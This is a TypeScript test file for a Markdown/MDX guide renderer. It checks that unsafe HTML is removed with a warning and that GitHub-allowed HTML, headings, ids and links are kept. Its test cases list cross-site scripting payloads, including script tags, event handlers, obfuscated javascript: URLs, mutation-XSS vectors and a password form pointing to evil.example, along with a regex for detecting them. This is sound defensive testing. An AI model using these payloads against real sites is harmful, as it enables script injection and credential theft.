import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from '../../src/runbook/reading/parse.ts';
import { renderPage } from './render.ts';

const FENCE = '```bash id=a\necho "<script>" && echo "</details>"\n```\n';

/** In a page by itself, around a fence, and deep inside of other things. */
const places = (html: string): readonly string[] => [
  `${html}\n\n${FENCE}`,
  `Text ${html} text.\n\n${FENCE}`,
  `- one\n\n  > ${html.replaceAll('\n', '\n  > ')}\n\n${FENCE}`,
  `## Which?\n\n### Option A: x\n\n${html}\n\n${FENCE}\n### Option B: y\n`,
];

const DANGER =
  /<(script|iframe|object|meta|base|style|link|form|template|math|use|my-|input type="password")|\son\w+=|style=|srcdoc=|gp-steps-dialog|javascript:|data:text|data-id=/i;

const blocksOf = (text: string) => parse('guide', [{ slug: 'index', file: 'guide.md', text }]).blocks.length;

/** No page at all is no danger. */
function swallowed(error: Error): string {
  assert.match(error.message, /not closed/);
  return '';
}

for (const [what, html] of [
  ['a script', '<script>alert(1)</script>'],
  ['a script between comments', '<!-- --><script>alert(1)</script><!-- -->'],
  ['a script in capitals', '<SCRIPT src="https://evil.example/x.js"></SCRIPT>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a frame of another kind', '<object data="x"></object>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a style sheet', '<style>body { display: none }</style>'],
  ['a link to one', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a styled overlay', '<div style="position:fixed;inset:0">Approved</div>'],
  ['a class of the frame', '<div class="gp-steps-dialog">x</div>'],
  ['a form', '<form action="https://evil.example"><input name="password"></form>'],
  ['a field', '<input type="password">'],
  ['a button', '<button>Run</button>'],
  ['a handler', '<b onclick="alert(1)">x</b>'],
  ['a handler of an image', '<img src=x onerror=alert(1)>'],
  ['a block of ours', '<guide-block id="step-b" data-id="a">x</guide-block>'],
  ['another element of its own', '<my-element>x</my-element>'],
  ['an address that is script', '<a href="javascript:alert(1)">x</a>'],
  ['an address that is script, hidden', '<a href="&#1;java&#115;cript:alert(1)">x</a>'],
  ['a link of Markdown that is script', '[x](javascript:alert(1))'],
  ['a link of Markdown that is a page', '[x](data:text/html,x)'],
  ['a drawing that runs', '<svg><script>alert(1)</script></svg>'],
  ['a drawing that loads', '<svg><use href="https://evil.example/x.svg#x"></use></svg>'],
  ['an attribute that begins in one tag and ends in another', '<div title="\n\n"><img src=x onerror=alert(1)>'],
  [
    'mathematics',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['a template', '<template><script>alert(1)</script></template>'],
] as const)
  test(`${what} is left out, wherever it stands, and that is said`, async () => {
    for (const text of places(html)) {
      const said: string[] = [];
      const page = await renderPage(text, 'guide.md', { warn: (sentence) => said.push(sentence) }).catch(swallowed);
      assert.ok(
        said.some((each) => each.includes('is left out: a page cannot contain it')),
        text,
      );
      const [own = '', others] = [
        /<guide-block[^]*<\/guide-block>/.exec(page)?.[0],
        page.replace(/<guide-block[^]*<\/guide-block>/, ''),
      ];
      assert.doesNotMatch(others.replaceAll(/<(?:guide|button|div class="gp)[^>]*>/g, ''), DANGER, text);
      if (page !== '') assert.equal(own.split('<guide-block').length - 1, blocksOf(text), text);
    }
  });

test('HTML that GitHub allows too stays, around Markdown and inside of it', async () => {
  const page = await renderPage(
    `<details open>\n<summary>More <kbd>Ctrl</kbd></summary>\n\n${FENCE}\n**bold**\n\n</details>\n\nA <b title="q">word</b><br>and [a link](https://a.example/b), [another](../b/#c).\n\n<p align="center"><img src="https://a.example/x.png" alt="x" width="10"></p>\n\n<table><tr><td colspan="2">x</td></tr></table>\n`,
  );
  assert.match(
    page,
    /<details open><?\/?\w*>?\s*<summary>More <kbd>Ctrl<\/kbd><\/summary>[^]*<guide-block id="step-a"[^]*<strong>bold<\/strong>[^]*<\/details>/,
  );
  assert.match(
    page,
    /A <b title="q">word<\/b><br>and <a href="https:\/\/a\.example\/b">a link<\/a>, <a href="\.\.\/b\/#c">/,
  );
  assert.match(page, /<p align="center"><img src="https:\/\/a\.example\/x\.png" alt="x" width="10"><\/p>/);
  assert.match(page, /<td colspan="2">x<\/td>/);
  assert.match(page, /echo "?(&quot;)?&#x3C;script>|echo (&quot;|")&lt;script&gt;/);
});

test('an id of an author is never one of ours', async () => {
  const page = await renderPage(`<div id="step-a">x</div>\n\n${FENCE}`);
  assert.match(page, /<div id="user-content-step-a">[^]*<guide-block id="step-a"/);
});

test('a link to an id of the author leads to it, and one to a step stays a link to the step', async () => {
  const page = await renderPage(
    `<a name="top-of-it"></a>\n\n<p id="readme">x</p>\n\n<i id="step-a">y</i>\n\n[up](#top-of-it) [r](#readme) [s](#step-a) [h](#other)\n\n${FENCE}`,
  );
  assert.match(page, /<a id="user-content-top-of-it"><\/a>/);
  assert.match(page, /href="#user-content-top-of-it">up[^]*href="#user-content-readme">r[^]*href="#step-a">s/);
  assert.match(page, /href="#other">h/);
});

test('a picture that is meant for dark pages stays one', async () => {
  const said: string[] = [];
  const html =
    '<picture>\n<source media="(prefers-color-scheme: dark)" type="image/png" sizes="10px" srcset="d.png">\n<img src="l.png">\n</picture>\n';
  const page = await renderPage(html, 'guide.md', { warn: (sentence) => said.push(sentence) });
  assert.match(page, /<source media="\(prefers-color-scheme: dark\)" type="image\/png" sizes="10px" srcset="d\.png">/);
  assert.deepEqual(said, []);
});

test('nobody can claim to be ours: the seal is not in the page', async () => {
  assert.doesNotMatch(await renderPage(`<div data-sealed="x" data-held="x">\n\n${FENCE}\n</div>\n`), /sealed|held/i);
  assert.doesNotMatch(await renderPage(FENCE), /sealed|held/i);
  assert.doesNotMatch(await renderPage('<Only in="mine">\n\nx\n\n</Only>\n', 'guide.mdx'), /sealed|held/i);
  assert.doesNotMatch(
    await renderPage('<Only in="mine">\n\n{1}\n\n</Only>\n', 'guide.mdx', { live: true }),
    /sealed|held/i,
  );
});

test('a tag that would swallow a code block is refused', async () => {
  for (const tag of ['<title>', '<xmp>', '<select>', '<noscript>', '<plaintext>'])
    await assert.rejects(renderPage(`<p>\n\n${tag}\n\n${FENCE}`), /not closed/);
});

test('tables, footnotes, tasks and notes of Markdown stay as they are', async () => {
  const page = await renderPage('| a |\n| :-: |\n| 1 |\n\n- [x] done\n\nText[^1].\n\n[^1]: Note.\n\n~~old~~ `code`\n');
  assert.match(page, /<th align="center">a<\/th>|<th style="text-align: ?center">a<\/th>/);
  assert.match(page, /<input type="checkbox" checked(="")? disabled(="")?>|<input [^>]*type="checkbox"/);
  assert.match(page, /<a href="#user-content-fn-1" id="user-content-fnref-1"/);
});

test('what HTML may stand in MDX is the same, and a page of text is no code', async () => {
  const page = await renderPage(
    '<Options name="db">\n<Option name="x" label="X" recommended>\n\n<b title="a &quot;q&quot;">x</b><br/>\n\n```bash id=one\n```\n\n</Option>\n<Option name="y" label="Y">\n\n{/* a note */}\n\n</Option>\n</Options>\n',
    'guide.mdx',
  );
  assert.match(
    page,
    /<guide-options data-name="db">[^]*<guide-option data-name="x"[^]*<b title="a (&quot;|&#x22;|")q[^]*<br>[^]*"step-one"[^]*<\/guide-options>/,
  );
  assert.doesNotMatch(page, /a note|<br><br>/);
  for (const tag of ['<script />', '<b onclick="x">x</b>', '<a href="javascript:x">x</a>', '<iframe />'])
    assert.doesNotMatch(await renderPage(`${tag}\n`, 'guide.mdx'), DANGER);
});

test('a heading does not get the id of a block or of the frame, and every other one stays as links know it', async () => {
  const headings = ['Step a', 'Step: A!', 'Step a 1', 'Guidepost data', 'Step 1: Install'];
  const text = `${headings.map((words) => `## ${words}\n\n`).join('')}${FENCE}\n\n\`\`\`bash id=x-1\necho\n\`\`\`\n\n## Step x\n`;
  const found = [...(await renderPage(text)).matchAll(/<h2( id="([^"]*)")?>/g)].map(([, , id]) => id);
  assert.deepEqual(found, [
    'user-content-step-a',
    'user-content-step-a-1',
    undefined,
    'user-content-guidepost-data-2',
    undefined,
    'user-content-step-x-3',
  ]);
});
